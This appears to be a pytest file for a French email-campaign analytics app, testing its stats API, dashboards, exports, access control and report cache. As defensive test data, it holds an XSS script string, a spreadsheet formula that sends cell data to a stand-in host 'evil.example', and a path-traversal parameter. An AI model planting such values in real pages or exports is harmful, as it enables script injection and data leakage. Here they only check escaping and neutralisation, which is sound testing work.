"""The stats API, the campaign performance page, the dashboard and their exports."""

from __future__ import annotations

import datetime as dt
import io
import json
import re

import pytest
from openpyxl import load_workbook

from analytics.models import TrackingEvent
from contacts.db import db
from tests.factories import make_list, make_org
from tests.factories_analytics import (
    BROWSER_UA,
    PHONE_UA,
    flush_tracking,
    path_of,
    quiet_tracking_buffer,  # noqa: F401 - autouse fixture
    recipient_links,
    sent_campaign,
)
from tests.factories_campaigns import make_event
from tests.factories_contacts import make_contact

CONTRACT_KEYS = {
    "status", "recipients", "sent", "deferred", "failed", "opens_unique", "opens_machine",
    "clicks_unique", "unsubscribes", "rsvp", "poll", "site_visits", "links",
}  # fmt: skip
EVIL = '<script>alert("x")</script>'


def _event(org, campaign, kind="open", key="k", machine=False, at=None, **kw):
    db.session.add(
        TrackingEvent(
            organisation_id=org.id,
            campaign_id=campaign.id,
            kind=kind,
            recipient_key=key,
            is_machine=machine,
            created_at=at or campaign.started_at + dt.timedelta(hours=1),
            **kw,
        )
    )


@pytest.fixture
def followed(client, org):
    """Four recipients of an invitation: two read (one on a phone), one clicks, a proxy
    prefetches one, one answers yes and one no; a visit to the site comes from it."""
    org.website_url = "https://www.ville.example"
    lst = make_list(org, purpose="invitations")
    contacts = [make_contact(org, lst) for _ in range(4)]
    blocks = [
        {"type": "heading", "text": "Invitation"},
        {"type": "event"},
        {"type": "rsvp"},
        {"type": "poll", "question": "Horaire ?", "options": ["Matin", EVIL]},
    ]
    campaign, links, deliveries = sent_campaign(
        org,
        lst,
        contacts,
        kind="invitation",
        event=make_event(capacity=50),
        blocks=blocks,
        urls=("https://www.ville.example/agenda", "https://autre.example.org/doc"),
    )
    links[1].label = '=HYPERLINK("http://evil.example?"&A1)'
    db.session.commit()
    builder = recipient_links(org, campaign, links)
    urls = [builder.values(d.id, c.id, lst.id) for d, c in zip(deliveries, contacts, strict=True)]
    client.get(path_of(urls[0]["open_pixel_url"]), headers={"User-Agent": PHONE_UA})
    landing = client.get(path_of(urls[0]["link_1"]), headers={"User-Agent": PHONE_UA})
    client.get(path_of(urls[1]["open_pixel_url"]), headers={"User-Agent": BROWSER_UA})
    client.head(path_of(urls[2]["open_pixel_url"]))
    client.post(path_of(urls[0]["rsvp_yes_url"]))
    client.post(path_of(urls[1]["rsvp_no_url"]))
    client.post(path_of(urls[0]["poll_url_2"]))
    query = landing.headers["Location"].split("?", 1)[1]
    client.get(f"/s/{org.site_key}/hit?p=/agenda&e=1&{query}", headers={"User-Agent": PHONE_UA})
    flush_tracking()
    return campaign, contacts, links


# ---------------------------------------------------------------------------- API


def test_stats_has_exactly_the_contract_fields(followed, api):
    stats = api("director").get(f"/campaigns/{followed[0].id}/stats").get_json()
    assert set(stats) == CONTRACT_KEYS
    assert set(stats["rsvp"]) == {"yes", "no", "maybe"}
    assert all(set(link) == {"url", "clicks_unique"} for link in stats["links"])


def test_stats_agree_with_what_recipients_did(followed, api):
    stats = api("officer").get(f"/campaigns/{followed[0].id}/stats").get_json()
    assert stats["status"] == "sent"
    assert (stats["recipients"], stats["sent"], stats["failed"], stats["deferred"]) == (4, 4, 0, 0)
    assert (stats["opens_unique"], stats["opens_machine"], stats["clicks_unique"]) == (2, 1, 1)
    assert stats["rsvp"] == {"yes": 1, "no": 1, "maybe": 0}
    assert stats["poll"] == {"Matin": 0, EVIL: 1}
    assert stats["site_visits"] == 1
    assert {link["url"]: link["clicks_unique"] for link in stats["links"]} == {
        "https://www.ville.example/agenda": 1,
        "https://autre.example.org/doc": 0,
    }


def test_stats_of_another_bodys_campaign_is_a_404(followed, api):
    other = make_org()
    db.session.commit()
    response = api("director", organisation=other).get(f"/campaigns/{followed[0].id}/stats")
    assert response.status_code == 404
    assert response.get_json()["error"]["code"] == "not_found"


def test_stats_of_an_unknown_campaign_is_a_404(app, api):
    assert api("admin").get("/campaigns/999999/stats").status_code == 404


def test_stats_are_documented_in_the_openapi_document(client, app):
    document = client.get("/api/v1/openapi.json").get_json()
    assert "/campaigns/{campaign_id}/stats" in document["paths"]
    assert "/site" in document["paths"]


# ---------------------------------------------------------------------------- campaign page


def _figures(html: str) -> dict[str, str]:
    return dict(re.findall(r'data-figure="([a-z_]+)">([^<]*)<', html))


def test_the_campaign_page_shows_the_same_numbers_as_the_api(client, followed, api, login_as):
    stats = api("director").get(f"/campaigns/{followed[0].id}/stats").get_json()
    login_as("director")
    html = client.get(f"/analytics/campaigns/{followed[0].id}").get_data(as_text=True)
    figures = _figures(html)
    for key in ("recipients", "delivered", "failed", "opens_unique", "opens_machine",
                "clicks_unique", "unsubscribes", "site_visits"):  # fmt: skip
        expected = stats["sent"] if key == "delivered" else stats[key]
        assert figures[key].strip() == str(expected), key
    assert figures["rsvp_yes"].startswith("1 / 50")


def test_the_campaign_page_escapes_hostile_labels_and_options(client, followed, login_as):
    login_as("officer")
    html = client.get(f"/analytics/campaigns/{followed[0].id}").get_data(as_text=True)
    assert EVIL not in html
    assert "&lt;script&gt;alert(" in html


def test_the_campaign_page_compares_with_the_bodys_median(client, org, login_as):
    lst = make_list(org)
    contacts = [make_contact(org, lst) for _ in range(4)]
    day = dt.timedelta(days=1)
    now = dt.datetime.now(dt.UTC)
    older = []
    for i, opened in enumerate((1, 2, 3)):  # 25 %, 50 %, 75 % open rates
        campaign, _, _ = sent_campaign(org, lst, contacts, started_at=now - (10 - i) * day)
        for k in range(opened):
            _event(org, campaign, key=f"r{k}")
        older.append(campaign)
    latest, _, _ = sent_campaign(org, lst, contacts, started_at=now - day)
    _event(org, latest, key="a")
    db.session.commit()
    login_as("director")
    html = client.get(f"/analytics/campaigns/{latest.id}").get_data(as_text=True)
    assert "médiane 50,0" in html
    assert "▼ -25,0 pt" in html
    assert "vos 3 campagne(s) précédente(s)" in html


def test_the_campaign_page_gives_the_2010_sector_references(client, followed, login_as):
    login_as("director")
    html = client.get(f"/analytics/campaigns/{followed[0].id}").get_data(as_text=True)
    assert "suivent le taux de clics (2010)" in html
    assert "privilégient le trafic généré sur le site (2010)" in html


def test_the_hour_by_hour_timeline_counts_human_events(client, followed, login_as):
    from analytics.dashboard import campaign_page

    page = campaign_page(db.session, followed[0].organisation_id, followed[0].id)
    rows = page.timeline_rows()
    assert len(rows) == 168
    assert sum(r["opens"] for r in rows) == 2  # the HEAD prefetch is a machine's
    assert sum(r["clicks"] for r in rows) == 1
    assert rows[2]["opens"] == 2  # sent two hours before the test ran


def test_the_heat_map_lists_links_in_message_order_with_heat_levels(client, followed, login_as):
    login_as("director")
    html = client.get(f"/analytics/campaigns/{followed[0].id}").get_data(as_text=True)
    heat = html.split('class="heatmap"', 1)[1].split("</ol>", 1)[0]
    assert heat.index("ville.example/agenda") < heat.index("autre.example.org/doc")
    assert 'class="heat heat-5"' in heat and 'class="heat heat-0"' in heat


def test_every_chart_points_at_a_table_and_the_data_is_a_json_block(client, followed, login_as):
    login_as("director")
    html = client.get(f"/analytics/campaigns/{followed[0].id}").get_data(as_text=True)
    described = re.findall(r'<canvas data-chart="(\w+)"[^>]*aria-describedby="([\w-]+)"', html)
    assert {kind for kind, _ in described} >= {"timeline", "devices", "links"}
    for _, table_id in described:
        assert f'id="{table_id}"' in html
    block = html.split('<script type="application/json" id="analytics-data">', 1)[1]
    data = json.loads(block.split("</script>", 1)[0])
    assert len(data["timeline"]["opens"]) == 168
    assert "<script>" not in html.split("analytics-data", 1)[1].split("</script>", 1)[0]
    assert re.search(r"<script>(?!</script>)", html) is None  # no inline script


def test_the_charts_script_and_library_are_served_by_the_app(client, app):
    assert client.get("/static/analytics-charts.js").status_code == 200
    chart = client.get("/vendor/chart.js")
    assert chart.status_code == 200 and b"Chart" in chart.data


def test_yes_answers_are_named_only_under_the_per_contact_policy(client, followed, org, login_as):
    login_as("director")
    url = f"/analytics/campaigns/{followed[0].id}"
    first = followed[1][0]
    assert first.email not in client.get(url).get_data(as_text=True)
    org.tracking_policy = "per_contact"
    db.session.commit()
    html = client.get(url).get_data(as_text=True)
    assert first.email in html and followed[1][1].email not in html


def test_the_campaign_page_of_another_body_is_a_404(client, followed, login_as):
    login_as("director", organisation=make_org())
    assert client.get(f"/analytics/campaigns/{followed[0].id}").status_code == 404
    assert client.get(f"/analytics/campaigns/{followed[0].id}/export.csv").status_code == 404


def test_analysts_cannot_read_a_bodys_statistics(client, followed, login_as):
    login_as("analyst")
    assert client.get(f"/analytics/campaigns/{followed[0].id}").status_code == 403
    assert client.get("/analytics/").status_code == 403


def test_the_policy_is_explained_on_the_page(client, followed, org, login_as):
    org.tracking_policy = "off"
    db.session.commit()
    login_as("director")
    html = client.get(f"/analytics/campaigns/{followed[0].id}").get_data(as_text=True)
    assert "La mesure est désactivée pour cet organisme" in html


# ---------------------------------------------------------------------------- exports


def test_the_csv_export_neutralises_formulas(client, followed, login_as):
    login_as("director")
    response = client.get(f"/analytics/campaigns/{followed[0].id}/export.csv?table=liens")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ";=HYPERLINK" not in text


def test_the_xlsx_export_has_every_table_and_no_formula(client, followed, login_as):
    login_as("director")
    response = client.get(f"/analytics/campaigns/{followed[0].id}/export.xlsx")
    book = load_workbook(io.BytesIO(response.data))
    assert {"resume", "liens", "chronologie", "appareils", "rsvp", "sondage"} <= set(
        book.sheetnames
    )
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    labels = [c.value for c in book["liens"]["C"]]
    assert '\'=HYPERLINK("http://evil.example?"&A1)' in labels


def test_an_unknown_export_table_is_a_400(client, followed, login_as):
    login_as("director")
    response = client.get(f"/analytics/campaigns/{followed[0].id}/export.csv?table=../../x")
    assert response.status_code == 400
    assert client.get(f"/analytics/campaigns/{followed[0].id}/export.pdf").status_code == 404


def test_the_attendee_list_is_exported_only_when_the_policy_allows(client, followed, org, login_as):
    login_as("director")
    url = f"/analytics/campaigns/{followed[0].id}/export.csv?table=participants"
    assert client.get(url).status_code == 400
    org.tracking_policy = "per_contact"
    db.session.commit()
    text = client.get(url).data.decode("utf-8-sig")
    assert followed[1][0].email in text


# ---------------------------------------------------------------------------- dashboard


def test_the_dashboard_shows_campaigns_lists_sources_subjects_and_traffic(
    client, followed, login_as
):
    login_as("officer")
    html = client.get("/analytics/").get_data(as_text=True)
    assert "Campagnes dans le temps" in html and "Les nouvelles du mois" in html
    assert f'href="/analytics/campaigns/{followed[0].id}"' in html
    assert 'id="table-growth"' in html and 'id="table-sources"' in html
    assert "formulaire du site" in html
    assert "visites venues de vos campagnes" in html
    assert 'id="table-pages"' in html and "/agenda" in html


def test_the_dashboard_flags_risky_consent_sources(client, org, login_as):
    lst = make_list(org)
    make_contact(org, lst, source="purchased")
    db.session.commit()
    login_as("director")
    html = client.get("/analytics/").get_data(as_text=True)
    assert "fichier acheté" in html and "à risque" in html


def test_the_dashboard_export_is_one_workbook(client, followed, login_as):
    login_as("director")
    response = client.get("/analytics/export.xlsx")
    book = load_workbook(io.BytesIO(response.data))
    assert {"campagnes", "croissance", "sources", "objets", "site"} <= set(book.sheetnames)
    csv_text = client.get("/analytics/export.csv?table=campagnes").data.decode("utf-8-sig")
    assert "taux_ouverture" in csv_text.splitlines()[0]


def test_the_dashboard_works_for_a_body_with_nothing_yet(client, login_as):
    login_as("director")
    html = client.get("/analytics/").get_data(as_text=True)
    assert "Aucune campagne envoyée pour l&#39;instant" in html or "Aucune campagne" in html


# ---------------------------------------------------------------------------- snippet page


def test_admins_get_the_snippet_page(client, org, login_as):
    login_as("admin")
    html = client.get("/analytics/site").get_data(as_text=True)
    assert f"/s/{org.site_key}.js" in html
    assert "Aucun cookie" in html
    assert "/analytics/site" in client.get("/admin/").get_data(as_text=True)


def test_directors_do_not_get_the_snippet_page(client, login_as):
    login_as("director")
    assert client.get("/analytics/site").status_code == 403


def test_the_site_api_gives_the_callers_snippet(api, org):
    body = api("officer").get("/site").get_json()
    assert set(body) == {"snippet_html"}
    assert f"/s/{org.site_key}.js" in body["snippet_html"]


def test_analysts_get_no_snippet(api):
    assert api("analyst").get("/site").status_code == 403


# ---------------------------------------------------------------------------- report cache


def test_a_campaign_that_did_not_change_is_served_from_the_cache(client, followed, login_as):
    from webapp.views.tracking import state

    cache = state(client.application).reports
    login_as("director")
    url = f"/analytics/campaigns/{followed[0].id}"
    client.get(url)
    misses = cache.misses
    client.get(url)
    assert cache.misses == misses and cache.hits >= 1


def test_a_new_event_is_counted_at_once_when_the_cache_has_no_grace(client, followed, api):
    key = api("director")
    before = key.get(f"/campaigns/{followed[0].id}/stats").get_json()["opens_unique"]
    _event(make_org_of(followed[0]), followed[0], key="zz")
    db.session.commit()
    after = key.get(f"/campaigns/{followed[0].id}/stats").get_json()["opens_unique"]
    assert after == before + 1


def test_with_a_grace_period_figures_may_lag_that_long_and_say_when(
    client, followed, api, login_as
):
    from webapp.views.tracking import state

    state(client.application).reports.ttl = 3600
    key = api("director")
    before = key.get(f"/campaigns/{followed[0].id}/stats").get_json()["opens_unique"]
    _event(make_org_of(followed[0]), followed[0], key="zz")
    db.session.commit()
    assert key.get(f"/campaigns/{followed[0].id}/stats").get_json()["opens_unique"] == before
    login_as("director")
    assert "chiffres calculés le" in client.get(f"/analytics/campaigns/{followed[0].id}").get_data(
        as_text=True
    )


def make_org_of(campaign):
    from contacts.models import Organisation

    return db.session.get(Organisation, campaign.organisation_id)


def test_changed_figures_are_refreshed_in_the_background_while_the_old_ones_are_shown(
    client, followed, login_as
):
    import time

    from webapp.views.tracking import state

    tracking = state(client.application)
    reports = tracking.reports
    reports.refresher = tracking._refresh_report  # as in production
    login_as("director")
    url = f"/analytics/campaigns/{followed[0].id}"
    before = _figures(client.get(url).get_data(as_text=True))["opens_unique"]
    _event(make_org_of(followed[0]), followed[0], key="zz")
    db.session.commit()
    assert _figures(client.get(url).get_data(as_text=True))["opens_unique"] == before
    deadline = time.monotonic() + 10
    while reports.refreshes == 0 and time.monotonic() < deadline:
        time.sleep(0.05)
    after = _figures(client.get(url).get_data(as_text=True))["opens_unique"]
    assert int(after) == int(before) + 1


def test_reading_the_statistics_is_observed_for_the_benchmark(client, login_as, org):
    from analytics.benchmark.models import PracticeSignal

    login_as("director")
    assert client.get("/analytics/").status_code == 200
    kinds = {s.kind for s in db.session.scalars(db.select(PracticeSignal)).all()}
    assert {"stats_viewed", "site_stats_viewed"} <= kinds
